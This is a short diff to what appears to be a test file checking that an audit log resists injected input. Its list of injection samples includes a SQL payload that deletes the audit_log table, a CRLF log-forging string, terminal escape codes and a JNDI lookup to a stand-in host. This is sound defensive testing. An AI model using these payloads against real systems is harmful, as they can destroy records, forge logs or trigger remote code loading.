@@ -93,7 +93,7 @@ test('[E-59] no password, token, code, e-mail address or street is in the audit 
 
 const injections = [
   'x\r\n{"level":60,"msg":"forged"}',
-  "x', now()); delete from audit_log; --",
+  "x', now()); delete from audit_log; -- forged",
   'x\u2028forged\u0085forged',
   '\u001b[31mforged\u001b[0m',
   '${jndi:ldap://forged.example/a}',
